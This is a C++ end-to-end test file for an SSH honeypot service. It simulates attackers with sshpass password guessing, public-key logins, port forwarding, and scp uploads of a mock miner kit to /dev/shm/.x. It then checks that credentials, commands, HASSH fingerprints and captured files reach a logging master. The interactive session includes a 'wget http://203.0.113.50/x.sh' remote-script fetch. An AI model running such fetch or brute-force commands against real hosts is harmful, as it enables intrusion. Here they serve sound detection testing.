// The decky's ssh service attacked with OpenSSH's own client, driven by sshpass as brute-force
// scripts drive it: a wrong password, a right one with a command, an interactive session over a
// terminal, a public key, and a request to forward a port. The master (the real binary, over
// RELP) must have each attempt with its method and kind, the key by its blob, the commands, the
// recorded session, the forwarding request, and the client's HASSH of the algorithms the
// command line made it offer. Files uploaded with scp arrive as file_captured with the hash of
// what was sent, under the path the upload would have had.
#include <gtest/gtest.h>

#include <fstream>

#include "core/base64.h"
#include "core/hash.h"
#include "decky_run.h"

namespace decnet::testing {
namespace {

// The decky under test: ssh alone, on a port of the test's.
class SshDecky : public DeckyRun {
 public:
  SshDecky(const TempDir& dir, int relp_port, int ssh_port)
      : DeckyRun(dir, relp_port, "decky-ssh", "ssh", {"ssh.ports=" + std::to_string(ssh_port)},
                 ssh_port) {}
};

class SshEndToEnd : public ::testing::Test {
 protected:
  RelpMaster master_;
  int ssh_port_ = free_port();
  TempDir dir_;

  // ssh through sshpass, never asking about or remembering the decky's host key.
  CommandResult ssh(const std::string& password, const std::vector<std::string>& options,
                    const std::string& remote = {}, const std::string& input = {}) {
    std::string command = "sshpass -p '" + password + "' ssh -o StrictHostKeyChecking=no " +
                          "-o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o " +
                          "ConnectTimeout=10 -p " + std::to_string(ssh_port_);
    for (const auto& o : options) command += " " + o;
    command += " root@127.0.0.1";
    if (!remote.empty()) command += " '" + remote + "'";
    if (!input.empty()) command = "printf '" + input + "' | " + command;
    return run_command({"sh", "-c", command}, {}, std::chrono::seconds(30));
  }
};

TEST_F(SshEndToEnd, OpenSshLoginsCommandsKeysAndForwardsLandOnTheMaster) {
  ASSERT_TRUE(master_.ready()) << master_.output();
  SshDecky decky(dir_, master_.relp_port(), ssh_port_);
  ASSERT_TRUE(decky.ready()) << decky.child().output();

  const auto refused = ssh("letmein", {"-o PreferredAuthentications=password"}, "id");
  EXPECT_EQ(refused.status, 5) << refused.output;  // sshpass: wrong password

  const auto command =
      ssh("admin",
          {"-o PreferredAuthentications=password", "-o KexAlgorithms=curve25519-sha256",
           "-o Ciphers=aes128-ctr", "-o MACs=hmac-sha2-256"},
          "uname -a; id");
  EXPECT_EQ(command.status, 0) << command.output;
  EXPECT_NE(command.output.find("Linux decky-ssh"), std::string::npos) << command.output;
  EXPECT_NE(command.output.find("uid=0(root)"), std::string::npos) << command.output;

  const auto interactive = ssh("admin", {"-tt", "-o PreferredAuthentications=keyboard-interactive"},
                               {}, "cd /tmp\\nwget http://203.0.113.50/x.sh\\nexit\\n");
  EXPECT_EQ(interactive.status, 0) << interactive.output;
  EXPECT_NE(interactive.output.find("root@decky-ssh:~# "), std::string::npos) << interactive.output;
  EXPECT_NE(interactive.output.find("logout"), std::string::npos) << interactive.output;

  const auto key = dir_.path() / "attacker_key";
  ASSERT_EQ(run_command({"ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key.string()}).status,
            0);
  const auto keyed =
      ssh("unused",
          {"-i " + key.string(), "-o PreferredAuthentications=publickey", "-o IdentitiesOnly=yes"},
          "id");
  EXPECT_NE(keyed.status, 0) << keyed.output;

  // -N -f: no shell, only the forwarding, in the background; a connection through it makes
  // the client ask the decky for a channel to the target.
  const int forward_port = free_port();
  ChildProcess forwarder({"sshpass", "-p", "admin", "ssh", "-N", "-o", "StrictHostKeyChecking=no",
                          "-o", "UserKnownHostsFile=/dev/null", "-o",
                          "PreferredAuthentications=password", "-p", std::to_string(ssh_port_),
                          "-L", std::to_string(forward_port) + ":198.51.100.80:3389",
                          "root@127.0.0.1"});
  ASSERT_TRUE(
      wait_until([&] { return TcpClient(forward_port).connected(); }, std::chrono::seconds(20)));

  // Every attempt, with its method and outcome.
  EXPECT_TRUE(
      master_.arrives("credentials",
                      "service = 'ssh' AND principal = 'root' AND secret_printable = 'letmein' "
                      "AND outcome = 'failure' AND secret_kind = 'plaintext'"))
      << master_.output();
  EXPECT_TRUE(
      master_.arrives("credentials",
                      "service = 'ssh' AND principal = 'root' AND secret_printable = 'admin' AND "
                      "outcome = 'success'"));
  EXPECT_TRUE(master_.arrives("logs",
                              "service = 'ssh' AND event_type = 'auth_attempt' AND "
                              "json_extract(fields, '$.method') = 'keyboard-interactive'"));

  // The key is stored by its blob, which is what the public key file holds in base64.
  std::ifstream pub(key.string() + ".pub");
  std::string type, encoded;
  pub >> type >> encoded;
  const auto blob = core::base64_decode(encoded);
  ASSERT_TRUE(blob);
  EXPECT_TRUE(master_.arrives("credentials",
                              "service = 'ssh' AND secret_kind = 'ssh_public_key' AND "
                              "secret_sha256 = '" +
                                  core::sha256_hex(*blob) + "'"))
      << sqlite_value(master_.db(),
                      "SELECT group_concat(secret_kind || ':' || secret_sha256) FROM credentials")
             .value_or("none");
  const auto fingerprint = run_command({"ssh-keygen", "-l", "-f", key.string() + ".pub"});
  EXPECT_TRUE(master_.arrives("logs",
                              "service = 'ssh' AND json_extract(fields, '$.key_type') = "
                              "'ssh-ed25519' AND instr('" +
                                  fingerprint.output +
                                  "', json_extract(fields, '$.key_fingerprint')) > 0"))
      << fingerprint.output;

  // The command, and the interactive session with its commands and recording.
  EXPECT_TRUE(master_.arrives("logs",
                              "service = 'ssh' AND event_type = 'command' AND "
                              "json_extract(fields, '$.command') = 'uname -a; id'"));
  EXPECT_TRUE(
      master_.arrives("sessions",
                      "service = 'ssh' AND outcome = 'logged_in' AND recording IS NOT NULL AND "
                      "commands LIKE '%wget http://203.0.113.50/x.sh%'"))
      << sqlite_value(master_.db(),
                      "SELECT group_concat(outcome || ' ' || ifnull(commands, '')) FROM sessions "
                      "WHERE service = 'ssh'")
             .value_or("no session");
  EXPECT_TRUE(master_.arrives("logs", "service = 'ssh' AND event_type = 'download_attempt'"));

  // The forwarding request names the target the client asked for.
  { TcpClient through(forward_port); }
  EXPECT_TRUE(master_.arrives("logs",
                              "service = 'ssh' AND event_type = 'port_forward_request' AND "
                              "json_extract(fields, '$.dst_host') = '198.51.100.80' AND "
                              "json_extract(fields, '$.dst_port') = '3389'"));

  // The HASSH of the pinned connection: its lists are the ones the command line gave (the
  // client adds its pseudo-algorithms to the key exchange list), and its hash is their MD5.
  const auto algorithms =
      sqlite_value(master_.db(),
                   "SELECT json_extract(fields, '$.hassh_algorithms') FROM logs WHERE service = "
                   "'ssh' AND event_type = 'connection' AND json_extract(fields, "
                   "'$.hassh_algorithms') LIKE 'curve25519-sha256,%;aes128-ctr;hmac-sha2-256;%'");
  ASSERT_TRUE(algorithms);
  EXPECT_EQ(master_.count("logs", "service = 'ssh' AND json_extract(fields, '$.hassh') = '" +
                                      core::md5_hex(*algorithms) + "'"),
            1);
  EXPECT_TRUE(master_.arrives("logs",
                              "service = 'ssh' AND event_type = 'connection' AND "
                              "json_extract(fields, '$.client_version') LIKE 'SSH-2.0-OpenSSH_%'",
                              5));
}

// The host keys are the decky's identity: a restart must present the same ones.
TEST_F(SshEndToEnd, ScpUploadsAreCapturedByTheirHash) {
  ASSERT_TRUE(master_.ready()) << master_.output();
  SshDecky decky(dir_, master_.relp_port(), ssh_port_);
  ASSERT_TRUE(decky.ready()) << decky.child().output();
  std::string payload;
  for (int i = 0; i < 5000; ++i) payload += static_cast<char>((i * 131) % 251);
  std::ofstream(dir_ / "bot.bin", std::ios::binary) << payload;
  std::filesystem::create_directories(dir_ / "kit" / "bin");
  std::ofstream(dir_ / "kit" / "run.sh") << "#!/bin/sh\n./bin/miner\n";
  std::ofstream(dir_ / "kit" / "bin" / "miner") << "not really a miner";
  // -O: the scp protocol, which bots' libraries speak, rather than OpenSSH 9's sftp.
  const auto scp = [&](const std::vector<std::string>& args) {
    std::vector<std::string> argv{"sshpass",
                                  "-p",
                                  "admin",
                                  "scp",
                                  "-O",
                                  "-P",
                                  std::to_string(ssh_port_),
                                  "-o",
                                  "StrictHostKeyChecking=no",
                                  "-o",
                                  "UserKnownHostsFile=/dev/null",
                                  "-o",
                                  "LogLevel=ERROR"};
    argv.insert(argv.end(), args.begin(), args.end());
    return run_command(argv, {}, std::chrono::seconds(30));
  };
  const auto one = scp({(dir_ / "bot.bin").string(), "root@127.0.0.1:/tmp/"});
  EXPECT_EQ(one.status, 0) << one.output;
  const auto tree = scp({"-r", (dir_ / "kit").string(), "root@127.0.0.1:/dev/shm/.x"});
  EXPECT_EQ(tree.status, 0) << tree.output;

  const auto captured = [&](const std::string& path, const std::string& content) {
    return master_.arrives("logs",
                           "service = 'ssh' AND event_type = 'file_captured' AND "
                           "json_extract(fields, '$.orig_path') = '" +
                               path + "' AND json_extract(fields, '$.sha256') = '" +
                               core::sha256_hex(content) +
                               "' AND json_extract(fields, "
                               "'$.size') = '" +
                               std::to_string(content.size()) + "'");
  };
  EXPECT_TRUE(captured("/tmp/bot.bin", payload)) << master_.output();
  EXPECT_TRUE(captured("/dev/shm/.x/run.sh", "#!/bin/sh\n./bin/miner\n"));
  EXPECT_TRUE(captured("/dev/shm/.x/bin/miner", "not really a miner"));
  EXPECT_TRUE(master_.arrives("logs",
                              "service = 'ssh' AND event_type = 'command' AND "
                              "json_extract(fields, '$.command') = 'scp -t /tmp/'"));
}

TEST_F(SshEndToEnd, HostKeysSurviveARestart) {
  ASSERT_TRUE(master_.ready()) << master_.output();
  const auto host_key = [&] {
    const auto r =
        run_command({"ssh-keyscan", "-t", "ed25519", "-p", std::to_string(ssh_port_), "127.0.0.1"});
    const auto at = r.output.find("ssh-ed25519 ");
    return at == std::string::npos ? std::string() : r.output.substr(at, 80);
  };
  std::string first;
  {
    SshDecky decky(dir_, master_.relp_port(), ssh_port_);
    ASSERT_TRUE(decky.ready()) << decky.child().output();
    first = host_key();
    ASSERT_FALSE(first.empty());
    EXPECT_EQ(decky.child().stop(SIGTERM), 0) << decky.child().output();
  }
  SshDecky again(dir_, master_.relp_port(), ssh_port_);
  ASSERT_TRUE(again.ready()) << again.child().output();
  EXPECT_EQ(host_key(), first);
}

}  // namespace
}  // namespace decnet::testing
